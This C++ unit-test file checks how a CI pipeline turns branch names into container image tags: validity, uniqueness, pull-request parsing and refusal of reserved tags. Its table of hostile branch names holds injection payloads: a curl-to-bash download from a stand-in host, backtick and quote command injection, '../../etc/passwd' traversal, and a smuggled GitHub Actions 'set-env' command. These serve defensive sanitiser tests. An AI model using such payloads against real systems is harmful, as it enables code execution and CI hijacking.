// Tags of the CI image: valid and without collisions, whatever a branch is called.
#include "pipeline/ci_tags.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "base/strings.h"
#include "oci/reference.h"

namespace crategate::pipeline {
namespace {

using ::testing::EndsWith;
using ::testing::HasSubstr;
using ::testing::MatchesRegex;
using ::testing::StartsWith;

const std::string kCommit(40, 'a'), kLongCommit(64, 'b');

const config::CiImage& settings() {
  static const config::CiImage image = {.image = "ghcr.io/o/r/ci",
                                        .dockerfile = {},
                                        .default_tag = "stable",
                                        .workflow = {},
                                        .watch = {"ci.Dockerfile"},
                                        .branches = {{"main", "latest"}, {"v2", "v2"}},
                                        .platforms = {},
                                        .generate = {}};
  return image;
}

TEST(CiTags, FollowTheMapElseTheDefault) {
  EXPECT_EQ(branch_tag("main", settings()), "latest");
  EXPECT_EQ(branch_tag("v2", settings()), "v2");
  for (const char* other : {"", "Main", "main ", "v2/x", "master"}) {
    EXPECT_EQ(branch_tag(other, settings()), "stable") << other;
    EXPECT_EQ(mapped_tag(other, settings()), "") << other;
  }
  EXPECT_EQ(pull_request_tag(7), "pr-7");
}

TEST(CiTags, OfACommitKeepANameThatIsATag) {
  EXPECT_EQ(commit_tag("main", kCommit), concat("main-sha-", kCommit));
  EXPECT_EQ(commit_tag("v2.x_y-z", kLongCommit), concat("v2.x_y-z-sha-", kLongCommit));
}

TEST(CiTags, OfACommitSayWhichNameTheyChanged) {
  EXPECT_THAT(commit_tag("feature/x", kCommit), MatchesRegex(concat("feature-x-sha-", kCommit, "-[0-9a-f]{8}")));
  EXPECT_EQ(commit_tag("feature/x", kCommit), concat("feature-x-sha-", kCommit, "-217d2bf5"));
}

/// C-3. As short as they are, nobody else has them.
TEST(CiTags, OfACommitMayBeShort) {
  auto few = settings();
  EXPECT_EQ(commit_tag("main", kCommit, few), concat("main-sha-", kCommit));
  few.commit = "short";
  EXPECT_EQ(commit_tag("main", kCommit, few), concat("main-sha-", kCommit.substr(0, 7)));
  EXPECT_EQ(commit_tag("feature/x", kLongCommit, few), concat("feature-x-sha-", kLongCommit.substr(0, 7), "-217d2bf5"));
  few.branches["other"] = commit_tag("main", kCommit, few);
  EXPECT_FALSE(check_tags(few));
}

struct HostileName {
  std::string what, branch;
};
void PrintTo(const HostileName& row, std::ostream* out) { *out << row.what; }

class HostileNames : public ::testing::TestWithParam<HostileName> {};

/// A22, A24
TEST_P(HostileNames, AreTagsThatNoShellAndNoPathSees) {
  for (const auto& commit : {kCommit, kLongCommit}) {
    const auto tag = commit_tag(GetParam().branch, commit);
    EXPECT_TRUE(oci::parse_tag(tag)) << tag;
    EXPECT_LE(tag.size(), 128U);
    EXPECT_THAT(tag, HasSubstr(concat("-sha-", commit)));
    EXPECT_THAT(tag, MatchesRegex("[A-Za-z0-9_].*-[0-9a-f]{8}"));
    EXPECT_EQ(tag.find("$("), std::string::npos);
    EXPECT_EQ(tag.find('/'), std::string::npos);
  }
}

INSTANTIATE_TEST_SUITE_P(
    Table, HostileNames,
    ::testing::Values(HostileName{"a command", "$(curl${IFS}evil|bash)"}, HostileName{"back quotes", "a`id`"},
                      HostileName{"quotes", "zzz\";echo"}, HostileName{"a way up", "../../etc/passwd"},
                      HostileName{"dots", ".."}, HostileName{"a leading dash", "-rf"},
                      HostileName{"a leading dot", ".hidden"}, HostileName{"an emoji", "\xF0\x9F\x9A\x80"},
                      HostileName{"umlauts", "gr\xC3\xBC\xC3\x9F"},
                      HostileName{"300 characters", std::string(300, 'x')},
                      HostileName{"300 slashes", std::string(300, '/')},
                      HostileName{"84 characters", std::string(84, 'y')}, HostileName{"nothing", ""},
                      HostileName{"a number sign", "a#b"}, HostileName{"line feed", "a\n::set-env name=x::y"}));

/// A23: whatever a branch is called, its commits' tags are nobody else's.
TEST(CiTags, OfACommitAreNeverReserved) {
  const std::string other(40, 'c');
  for (const std::string& branch : {std::string("latest"), std::string("v1.0.0"), std::string("pr-7"),
                                    std::string("stable"), concat("main-sha-", other)}) {
    const auto tag = commit_tag(branch, kCommit);
    EXPECT_THAT(tag, EndsWith(concat("-sha-", kCommit)));
    EXPECT_NE(tag, commit_tag("main", other));
    EXPECT_NE(tag, branch);
  }
  // The digits of a changed name cannot be put into a name that needs no change.
  const auto changed = commit_tag("feature/x", kCommit);
  EXPECT_NE(commit_tag(changed, kCommit), changed);
  EXPECT_NE(commit_tag("feature-x-217d2bf5", kCommit), changed);
  EXPECT_NE(commit_tag("feature-x", kCommit), changed);
}

/// A23, A24: a million names, most of them with the same letters and digits as others.
TEST(CiTags, OfDifferentBranchesDiffer) {
  constexpr std::string_view kLetters = "aA./-_#x";
  std::vector<std::string> tags;
  for (std::size_t number = 0; number < 1000000; ++number) {
    std::string name;
    for (std::size_t rest = number, digit = 0; digit < 7; ++digit, rest /= kLetters.size())
      name += kLetters[rest % kLetters.size()];
    tags.push_back(commit_tag(name, kCommit));
  }
  std::ranges::sort(tags);
  const auto twice = std::ranges::adjacent_find(tags);
  EXPECT_EQ(twice, tags.end()) << *twice;
}

TEST(CiTags, SayWhichPullRequestTheyBelongTo) {
  EXPECT_EQ(pull_request_of("pr-7"), 7);
  EXPECT_EQ(pull_request_of("pr-9007199254740992"), std::int64_t{1} << 53);
  for (const std::string_view tag :
       {"pr-0", "pr-07", "pr--7", "pr-7a", "PR-7", "pr-", "latest", "pr-9007199254740993", "pr-99999999999999999999"})
    EXPECT_EQ(pull_request_of(tag), std::nullopt) << tag;
}

TEST(CiTags, RefuseSettingsThatTakeAnothersTag) {
  EXPECT_TRUE(check_tags(settings()));
  for (const std::string& tag :
       {std::string("pr-7"), concat("main-sha-", kCommit), concat("x-sha-", kCommit, "-217d2bf5"), std::string("a b"),
        std::string("-x"), std::string(), std::string(129, 'x'), std::string("buildcache"), std::string("local"),
        std::string("fork")}) {
    auto mapped = settings();
    mapped.branches["v2"] = tag;
    const auto refused = check_tags(mapped);
    ASSERT_FALSE(refused) << tag;
    EXPECT_EQ(refused.error().code, ErrorCode::bad_input);
    EXPECT_THAT(describe(refused.error()), StartsWith("ci-image.branches.v2: ")) << tag;
    auto fallback = settings();
    fallback.default_tag = tag;
    EXPECT_THAT(describe(check_tags(fallback).error()), StartsWith("ci-image.default-tag: ")) << tag;
  }
  for (const std::string tag : {"pr-", "pr-x", "pr-7a", "v1.0.0", "a-sha-b"}) {
    auto mapped = settings();
    mapped.branches["v2"] = tag;
    EXPECT_TRUE(check_tags(mapped)) << tag;
  }
}

}  // namespace
}  // namespace crategate::pipeline
